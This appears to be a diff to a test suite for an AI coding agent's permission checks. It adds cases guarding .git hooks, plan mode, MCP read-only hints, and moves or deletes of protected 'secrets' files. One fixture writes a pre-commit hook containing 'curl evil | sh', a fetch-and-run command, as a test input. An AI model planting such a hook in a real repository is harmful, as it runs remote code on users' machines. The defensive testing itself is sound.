@@ -7,6 +7,8 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from goat_jupyter.permissions import (
     Decision,
@@ -304,7 +306,14 @@ def test_a_symlink_out_of_the_workspace_counts_as_outside(ws: Path, outside: Pat
 def test_new_files_inside_git_ask(ws: Path) -> None:
     hook = {"file_path": ".git/hooks/pre-commit", "content": "#!/bin/sh\ncurl evil | sh\n"}
     assert behavior(ws, "Write", hook) == "ask"
-    assert behavior(ws, "Write", hook, mode="acceptEdits") == "allow"
+    # git runs what .git/hooks and .git/config name: protected in every mode (issue 10)
+    assert behavior(ws, "Write", hook, mode="acceptEdits") == "ask"
+    assert behavior(ws, "Write", hook, mode="bypassPermissions") == "ask"
+    assert behavior(ws, "Edit", {"file_path": ".git/config"}, mode="bypassPermissions") == "ask"
+    assert (
+        behavior(ws, "Write", {"file_path": ".git/info/exclude", "content": "x"}, mode="acceptEdits")
+        == "allow"
+    )
     assert behavior(ws, "Write", {"file_path": ".gitignore", "content": "x"}) == "allow"
 
 
@@ -314,6 +323,7 @@ def test_settings_files_always_ask(ws: Path) -> None:
         decision = decide(ws, "Write", args, mode="bypassPermissions", allow=["Edit", "Write(**)"])
         assert decision.behavior == "ask" and "settings" in decision.reason
         assert suggest_rule("Write", args, PermissionContext(ws)) is None
+        assert behavior(ws, "Write", args, mode="plan") == "deny"  # plan mode changes nothing at all
 
 
 # --- WebFetch and MCP -------------------------------------------------------------------------
@@ -366,7 +376,16 @@ def test_mcp_rules(ws: Path, rule: str, tool: str, matches: bool) -> None:
 
 def test_read_only_mcp_tools_need_no_approval(ws: Path) -> None:
     assert behavior(ws, "mcp__time__now", {}, side_effect="read_only") == "allow"
-    assert behavior(ws, "mcp__time__now", {}, side_effect="read_only", mode="plan") == "allow"
+    # Plan mode trusts a readOnlyHint only for a server or tool the user allowed (issue 10).
+    assert behavior(ws, "mcp__time__now", {}, side_effect="read_only", mode="plan") == "ask"
+    for rule in ("mcp__time", "mcp__time__now", "mcp__time__*"):
+        assert (
+            behavior(ws, "mcp__time__now", {}, side_effect="read_only", mode="plan", allow=[rule]) == "allow"
+        )
+    assert (
+        behavior(ws, "mcp__time__now", {}, side_effect="read_only", mode="plan", allow=["mcp__other"])
+        == "ask"
+    )
     assert behavior(ws, "mcp__time__set", {}, side_effect="mutating", mode="plan") == "deny"
 
 
@@ -517,3 +536,157 @@ def test_read_deny_checker_names_the_rule_for_each_hidden_file(ws: Path) -> None
     assert checker(ws / "src" / "deep" / ".env") == "Read(*.env)"
     assert checker(ws / "src" / "a.py") is None
     assert read_deny_checker(PermissionContext(ws, deny=["Bash(rm:*)", "Read", "Edit(./src/**)"])) is None
+
+
+# --- every path checked for what the call does to it (issue 10) --------------------------------
+
+
+def test_a_folder_counts_with_every_rule_covering_something_inside_it(ws: Path) -> None:
+    (ws / "docs" / "deep").mkdir(parents=True)
+    (ws / "docs" / "deep" / "plan.md").write_text("p")
+    (ws / "loot").mkdir()
+    (ws / "loot" / "x.sh").write_text("s")
+    deny = ["Edit(./docs/deep/plan.md)"]
+    assert behavior(ws, "Delete", {"path": "docs", "recursive": True}, deny=deny) == "deny"
+    assert behavior(ws, "Move", {"from": "docs", "to": "elsewhere"}, deny=deny) == "deny"
+    assert behavior(ws, "Move", {"from": "./src/../docs/", "to": "elsewhere"}, deny=deny) == "deny"
+    assert behavior(ws, "Move", {"from": "src", "to": "elsewhere"}, deny=deny) == "allow"
+    # moving a folder in: what it holds lands under the destination
+    assert behavior(ws, "Move", {"from": "loot", "to": "bin"}, deny=["Edit(bin/*.sh)"]) == "deny"
+    assert behavior(ws, "Move", {"from": "loot", "to": "bin"}, deny=["Edit(bin/*.py)"]) == "allow"
+    # a folder that does not exist yet still counts as the folder a `dir/**` rule names
+    assert behavior(ws, "Write", {"file_path": "gone", "content": "x"}, deny=["Edit(./gone/**)"]) == "deny"
+
+
+def test_a_move_reads_and_removes_its_source(ws: Path) -> None:
+    move_out = {"from": "secrets/key.txt", "to": "key.txt"}
+    assert behavior(ws, "Move", move_out, deny=["Read(./secrets/**)"]) == "deny"
+    assert behavior(ws, "Move", move_out, ask=["Read(./secrets/**)"]) == "ask"
+    assert behavior(ws, "Move", move_out, deny=["Delete(./secrets/**)"]) == "deny"
+    assert (
+        behavior(ws, "Move", {"from": "src/a.py", "to": "secrets/a.py"}, deny=["Read(./secrets/**)"])
+        == "allow"
+    )
+    assert behavior(ws, "Move", move_out, deny=["Grep(./secrets/**)"]) == "allow"  # only Read covers it
+
+
+def test_folders_too_big_to_list_fail_closed(ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    import goat_jupyter.permissions_rules as rules
+
+    for i in range(5):
+        (ws / "src" / f"f{i}.py").write_text("")
+    monkeypatch.setattr(rules, "MAX_FOLDER_ENTRIES", 3)
+    assert behavior(ws, "Delete", {"path": "src", "recursive": True}, deny=["Edit(**/*.md)"]) == "deny"
+    assert behavior(ws, "Delete", {"path": "src", "recursive": True}, deny=["Edit(./other/**)"]) == "ask"
+    decision = decide(ws, "Delete", {"path": "src", "recursive": True}, mode="bypassPermissions")
+    assert decision.behavior == "ask" and "too many files" in decision.reason
+
+
+def test_deny_and_ask_rules_ignore_case_allow_rules_do_not(ws: Path) -> None:
+    assert behavior(ws, "Read", {"file_path": "SECRETS/KEY.txt"}, deny=["Read(./secrets/**)"]) == "deny"
+    assert behavior(ws, "Write", {"file_path": "Src/b.py", "content": ""}, ask=["Edit(./src/**)"]) == "ask"
+    args = {"file_path": "SRC/a.py", "content": ""}
+    assert behavior(ws, "Write", args, allow=["Edit(./src/**)"], mode="default") == "allow"  # new file
+    (ws / "SRC").mkdir()
+    (ws / "SRC" / "a.py").write_text("")
+    assert behavior(ws, "Write", args, allow=["Edit(./src/**)"]) == "ask"
+
+
+def test_nul_bytes_in_paths_are_invalid_input_not_a_crash(ws: Path) -> None:
+    from goat_jupyter.errors import InvalidPathError
+
+    for tool, args in [
+        ("Read", {"file_path": "a\x00"}),
+        ("Move", {"from": "a", "to": "\x00"}),
+        ("Glob", {"pattern": "\x00/*"}),
+    ]:
+        with pytest.raises(InvalidPathError):
+            decide(ws, tool, args)
+
+
+_SPELL_PREFIX = st.sampled_from(["", "./", "src/../", "./src/./../", "{ws}/", "{ws}/src/../"])
+_SPELL_TAIL = st.sampled_from(["", "/", "/key.txt", "/key.txt/", "/new/deeper.txt"])
+_MODES: list[PermissionMode] = ["default", "acceptEdits", "bypassPermissions", "dontAsk", "plan"]
+
+
+@settings(max_examples=150, derandomize=True, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(
+    prefix=_SPELL_PREFIX,
+    name=st.sampled_from(["secrets", "SECRETS", "Secrets", "link_to_secrets"]),
+    tail=_SPELL_TAIL,
+    mode=st.sampled_from(_MODES),
+    as_source=st.booleans(),
+)
+def test_no_spelling_moves_a_read_denied_file_anywhere(
+    ws: Path, prefix: str, name: str, tail: str, mode: PermissionMode, as_source: bool
+) -> None:
+    if not (ws / "link_to_secrets").exists():
+        (ws / "link_to_secrets").symlink_to(ws / "secrets")
+    path = (prefix + name + tail).format(ws=ws)
+    deny = ["Read(./secrets/**)", "Edit(./secrets/**)"]
+    args = {"from": path, "to": "loot"} if as_source else {"from": "src/a.py", "to": path}
+    assert behavior(ws, "Move", args, deny=deny, mode=mode, allow=["Edit", "Read", "Delete"]) == "deny"
+    assert behavior(ws, "Delete", {"path": path}, deny=deny, mode=mode) == "deny"
+
+
+@pytest.mark.parametrize(
+    "pattern",
+    [
+        "**/*.pem",
+        "a/**",
+        "a/b/",
+        "a/b/c.txt",
+        "**/b",
+        "{a,z}/**/c.txt",
+        "**/*.txt",
+        "a/*",
+        "z",
+        "A/B/**",
+        "q/**",
+    ],
+)
+def test_folder_listing_matches_like_the_full_rule(tmp_path: Path, pattern: str) -> None:
+    """The fast path (literal-folder skip + one regex per pattern) agrees with the full matcher."""
+    import goat_jupyter.permissions_rules as rules
+
+    root = tmp_path / "root"
+    for name in ("a/b/c.txt", "a/d.pem", "z/q.txt", "a/b/e/f.md"):
+        (root / name).parent.mkdir(parents=True, exist_ok=True)
+        (root / name).write_text("")
+    walk = rules.FolderWalk.of(root)
+    names = walk.names or ()
+    full = rules._compiled(pattern, True)  # pyright: ignore[reportPrivateUsage]
+    for rel in ("", "a", "a/b", "z", "nope"):
+        brute = any(full.match(f"{rel}/{n}" if rel else n) for n in names)
+        fast = rules._hit_below(
+            walk, tmp_path / "base" / rel if rel else tmp_path / "base", tmp_path / "base", pattern
+        )  # pyright: ignore[reportPrivateUsage]
+        assert fast == brute, (pattern, rel)
+
+
+@settings(max_examples=200, derandomize=True, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(
+    segments=st.lists(
+        st.sampled_from(["a", "B", "z", "*", "**", "*.txt", "*.pem", "{a,z}", "c.txt", "e", "?"]),
+        min_size=1,
+        max_size=4,
+    ),
+    trailing=st.booleans(),
+    rel=st.sampled_from(["", "a", "a/b", "A/B/E", "z", "nope"]),
+)
+def test_folder_listing_fast_path_agrees_with_the_full_matcher(
+    tmp_path: Path, segments: list[str], trailing: bool, rel: str
+) -> None:
+    import goat_jupyter.permissions_rules as rules
+
+    root = tmp_path / "root"
+    if not root.exists():
+        for name in ("a/b/c.txt", "a/d.pem", "z/q.txt", "a/b/e/f.md"):
+            (root / name).parent.mkdir(parents=True, exist_ok=True)
+            (root / name).write_text("")
+    pattern = "/".join(segments) + ("/" if trailing else "")
+    walk = rules.FolderWalk.of(root)
+    full = rules._compiled(pattern, True)  # pyright: ignore[reportPrivateUsage]
+    base = tmp_path / "base"
+    brute = any(full.match(f"{rel}/{n}" if rel else n) for n in walk.names or ())
+    assert rules._hit_below(walk, base / rel if rel else base, base, pattern) == brute, pattern  # pyright: ignore[reportPrivateUsage]
